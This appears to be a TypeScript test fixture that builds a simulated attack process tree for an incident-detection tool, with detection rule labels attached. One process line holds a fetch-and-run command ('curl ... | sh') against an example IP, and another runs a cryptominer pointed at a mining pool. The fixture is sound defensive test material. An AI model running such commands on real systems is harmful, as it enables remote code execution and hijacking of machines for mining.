import { hostileText } from './hostile-text.ts';
import type { Incident } from './incident-answers.ts';
import { hour } from './times.ts';

/** The processes of an attack, from the entry point on. */
export function processes(now: number): Incident['processes'] {
  const lines = [
    [1, undefined, 'tini', '/usr/bin/tini -- nginx', 0, []],
    [7, 1, 'nginx', 'nginx: master process', 0, []],
    [31, 7, 'nginx', 'nginx: worker process', 33, []],
    [
      412,
      31,
      'sh',
      'sh -c "curl -s http://198.51.100.9/a.sh | sh"',
      33,
      ['Shell started by a web server'],
    ],
    [413, 412, 'curl', 'curl -s http://198.51.100.9/a.sh', 33, []],
    [414, 412, 'sh', hostileText, 33, []],
    [
      420,
      414,
      'kdevtmpfsi',
      '/tmp/.x/kdevtmpfsi -o pool.example:4444',
      33,
      ['Program that is not of the image was run'],
    ],
  ] as const;
  return lines.map(([pid, parentPid, name, commandLine, uid, of]) => ({
    pid,
    ...(parentPid === undefined ? {} : { parentPid }),
    name,
    commandLine,
    exePath: `/usr/bin/${name}`,
    uid,
    start: now - 3 * hour + pid * 1000,
    rules: [...of],
  }));
}
